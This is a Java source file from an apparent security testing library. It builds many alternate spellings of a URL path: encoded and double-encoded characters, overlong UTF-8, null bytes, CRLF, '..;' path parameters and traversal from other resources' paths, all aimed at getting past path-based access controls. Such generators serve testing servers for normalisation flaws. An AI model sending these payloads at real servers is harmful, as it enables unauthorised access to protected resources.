package io.github.cors4j.attack;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.stream.IntStream;

/** Ways to write a path: spellings that some servers treat as the same path, and spellings that only look like it. */
public final class PathSpellings {
    /** What is put before or after a slash. */
    private static final List<String> DETOURS = List.of(
            "/",
            "/.",
            "/./.",
            "/%2e",
            "/%2E/.",
            "/zzz/..",
            "/zzz/%2e%2e",
            "/zzz/.%2e",
            "/zzz//..",
            "/zzz/..;",
            "//..",
            "/..",
            "/%2e%2e",
            "/;",
            "/;v=1",
            "/.;",
            "/..;",
            "/%2f",
            "/%5c",
            "/\\",
            "/%20",
            "/+",
            "/%00",
            "/*",
            "/%2a");

    /** What is put after a segment. */
    private static final List<String> SUFFIXES = List.of(
            ";",
            ";v=1",
            ";jsessionid=1",
            "%3b",
            ".",
            "..",
            "%2e",
            "%20",
            "+",
            "%00",
            "%0a",
            "%0d%0a",
            "%09",
            ".json",
            "~",
            "*",
            "%2a",
            "%",
            "%2",
            "%zz",
            "%u0041",
            "%c0%af",
            "%c0%ae%c0%ae",
            "%ef%bc%8f",
            "\u00e9",
            "%25",
            ":",
            "::$DATA",
            "%23",
            "%3f",
            "#",
            "?",
            "?x=/",
            "@",
            "%40",
            "|",
            "!",
            "(",
            "'",
            "%7f",
            "%80");

    private PathSpellings() {}

    /**
     * Returns spellings of a path, the same ones in every run.
     *
     * @param path the path to spell
     * @param others paths that belong to other resources, from which spellings lead to the path
     * @param count the smallest number of spellings
     */
    public static List<String> of(String path, List<String> others, int count) {
        Set<String> spellings = new LinkedHashSet<>();
        spellings.add(path);
        for (int i = 0; i < path.length(); i++) {
            for (String spelling : at(path, i)) {
                spellings.add(spelling);
            }
        }
        for (String other : others) {
            String up = "/..".repeat((int) other.chars().filter(c -> c == '/').count());
            for (String dots : List.of("..", "%2e%2e", ".%2E", "..;", "..%2f.", "..%5c.")) {
                spellings.add(other + up.replace("..", dots) + path);
                spellings.add(other + "/" + up.replace("..", dots) + path);
            }
            spellings.add(path + "/.." + other);
            spellings.add(other + ";" + path);
            spellings.add(other + "%2f.." + path);
            spellings.add("http://localhost" + other + up + path);
            spellings.add("http://localhost" + path + "?" + other);
            spellings.add("//localhost" + path);
            spellings.add(other + "?" + path);
            spellings.add(other + "#" + path);
        }
        Random random = new Random(path.hashCode());
        List<String> simple = new ArrayList<>(spellings);
        while (spellings.size() < count) {
            String twice = simple.get(random.nextInt(simple.size()));
            for (int more = random.nextInt(3); more >= 0; more--) {
                List<String> next = at(twice, random.nextInt(twice.length()));
                twice = next.get(random.nextInt(next.size()));
            }
            spellings.add(twice);
        }
        return List.copyOf(spellings);
    }

    /** Returns the ways to write one character of a path. */
    private static List<String> at(String path, int index) {
        String before = path.substring(0, index);
        char c = path.charAt(index);
        String after = path.substring(index + 1);
        List<String> spellings = new ArrayList<>();
        String hex = String.format("%%%02x", (int) c);
        spellings.add(before + hex + after);
        spellings.add(before + hex.toUpperCase(Locale.ROOT) + after);
        spellings.add(before + "%25" + hex.substring(1) + after);
        spellings.add(before + "%u00" + hex.substring(1) + after);
        spellings.add(
                before + (Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c)) + after);
        if (c == '/') {
            DETOURS.forEach(detour -> spellings.add(before + detour + "/" + after));
            SUFFIXES.forEach(suffix -> spellings.add(before + suffix + "/" + after));
        }
        if (after.isEmpty() || after.startsWith("/")) {
            IntStream.range(0, SUFFIXES.size()).forEach(i -> spellings.add(before + c + SUFFIXES.get(i) + after));
        }
        return spellings;
    }
}
